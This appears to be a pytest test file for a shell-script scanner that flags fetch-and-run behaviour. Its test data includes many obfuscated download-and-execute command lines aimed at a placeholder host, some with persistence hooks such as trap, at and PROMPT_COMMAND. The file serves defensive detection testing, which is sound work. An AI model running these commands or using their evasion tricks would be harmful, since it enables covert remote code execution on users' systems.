"""A program is found however its name is written, and what is read into a variable and run is followed."""

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.shell import note_script

HOST = "https://kiln.example/x"


def shown(script: str) -> set[str]:
    notes = Notes("build.sh", every_line=True, is_program=True)
    note_script(notes, script, 1)
    return {observation.capability for observation in notes.observations()}


@pytest.mark.parametrize(
    "script",
    [
        f"cu${{x}}rl {HOST} | sh",
        f"cu$@rl {HOST} | b${{z}}ash",
        f"c''url {HOST} | sh",
        f"c\\url {HOST} | s\\h",
        f"$'\\x63url' {HOST} | sh",
        f"$'\\143url' {HOST} | sh",
        f"$(printf '\\x63url') {HOST} | sh",
        f"`echo lruc | rev` {HOST} | sh",
        f"/???/b??h -c 'curl {HOST} | sh'",
        f"/usr/bin/cu?l {HOST} | /b[i]n/sh",
        f"{{curl,{HOST}}} | sh",
        f"curl {HOST} | $SHELL",
        f"curl {HOST} | bash${{x}}",
    ],
)
def test_a_hidden_program_is_found(script: str) -> None:
    assert "fetch_and_run" in shown(script)


@pytest.mark.parametrize(
    "fetch",
    [
        "dig +short TXT kiln.example",
        "nslookup -type=txt kiln.example",
        "socat - TCP:kiln.example:80",
        "ssh ada@kiln.example cat x",
        "lynx -source https://kiln.example/x",
    ],
)
def test_what_answers_is_a_download(fetch: str) -> None:
    assert "fetch_and_run" in shown(f"{fetch} | sh")
    assert "fetch_and_run" in shown(f'eval "$({fetch})"')
    assert not shown(f"{fetch} | grep glaze")


@pytest.mark.parametrize(
    "script",
    [
        "scp ada@kiln.example:x x; sh x",
        "scp ada@kiln.example:kiln/x . && ./x",
        "rsync -a rsync://kiln.example/x fire/ && sh fire/x",
        f"curl {HOST} -o x; exec ./x",
        f"curl {HOST} | xargs -I{{}} sh -c '{{}}'",
        f"read x < <(curl {HOST}); eval $x",
        f'mapfile -t a < <(curl {HOST}); eval "${{a[@]}}"',
        f"curl {HOST} | while read -r l; do eval $l; done",
        f"curl {HOST} | awk '{{system($0)}}'",
        f"(curl {HOST}; echo) | sh",
        f"trap 'curl {HOST} | sh' EXIT",
        f"echo 'curl {HOST} | sh' | at now",
        f"PROMPT_COMMAND='curl {HOST} | sh'",
    ],
)
def test_what_is_fetched_is_followed_to_where_it_is_run(script: str) -> None:
    assert "fetch_and_run" in shown(script)


@pytest.mark.parametrize(
    "script",
    [
        "ls /usr/lib/*/clay.so; /opt/kiln?/bin/fire; cp {glaze,clay}.txt pots/",
        "python${VERSION} setup.py build; lib${x}tool --mode=link",
        "scp -r pots ada@kiln.example:pots && sh build.sh",
        "rsync -a --delete pots/ ada@kiln.example:pots/; sh build.sh",
        "git ls-files | while read -r file; do sh check.sh $file; done",
        "git ls-files | xargs -n1 sh -c 'fire \"$0\"'",
        "trap 'rm -f glaze' EXIT; f() { fire; }; { fire; glaze; } | sort",
        f"curl {HOST} | while read -r name; do echo $name; done",
        'eval "$(ssh-agent -s)"',
    ],
)
def test_ordinary_commands_show_nothing(script: str) -> None:
    assert not shown(script)


@pytest.mark.parametrize("piece", ["/*", "/???/", "{a,", "${x}", "$@", "/[", "read x < <(", "`echo "])
def test_odd_commands_are_read(piece: str) -> None:
    assert isinstance(shown(piece * 20_000), set)
